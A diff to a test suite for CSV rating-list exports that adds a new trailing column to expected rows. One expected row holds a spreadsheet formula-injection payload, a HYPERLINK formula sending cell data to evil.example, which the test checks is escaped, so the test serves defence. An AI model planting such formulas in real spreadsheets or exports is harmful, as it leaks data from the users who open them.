@@ -70,7 +70,7 @@ describe('list exports, streamed from the database', () => {
     expect(text.startsWith(`${UTF8_BOM}rank,player_id,`)).toBe(true);
     const lines = text.slice(UTF8_BOM.length).trimEnd().split('\r\n');
     expect(lines).toHaveLength(PLAYERS + 1);
-    expect(lines[1]).toMatch(/^1,\d+,,,Joueur00000,"Anne, ""la Tour""",,,,,,2800,true,,0,30,,true$/);
+    expect(lines[1]).toMatch(/^1,\d+,,,Joueur00000,"Anne, ""la Tour""",,,,,,2800,true,,0,30,,true,false$/);
     expect(lines[PLAYERS - 3].startsWith(`${PLAYERS - 3},`)).toBe(true);
     expect(lines[PLAYERS].startsWith(',')).toBe(true); // unranked last
   });
@@ -130,7 +130,7 @@ describe('list exports, streamed from the database', () => {
 
     const listCsv = (await collect((await exportRatingList(db.dataSource, published.id, 'csv')).chunks)).text;
     expect(listCsv.split('\r\n')[1]).toBe(
-      `1,${player.id},'-12,,"'=HYPERLINK(""http://evil.example/?""&A1,""Tremblay"")",'@SUM(A1:A9),CAN,M,,,'+CE Montréal,1500,false,,0,0,,true`,
+      `1,${player.id},'-12,,"'=HYPERLINK(""http://evil.example/?""&A1,""Tremblay"")",'@SUM(A1:A9),CAN,M,,,'+CE Montréal,1500,false,,0,0,,true,false`,
     );
     const changes = (await collect(exportPoolHistory(db.dataSource, pool.id, 'tournaments'))).text.split('\r\n');
     expect(changes[1]).toBe(
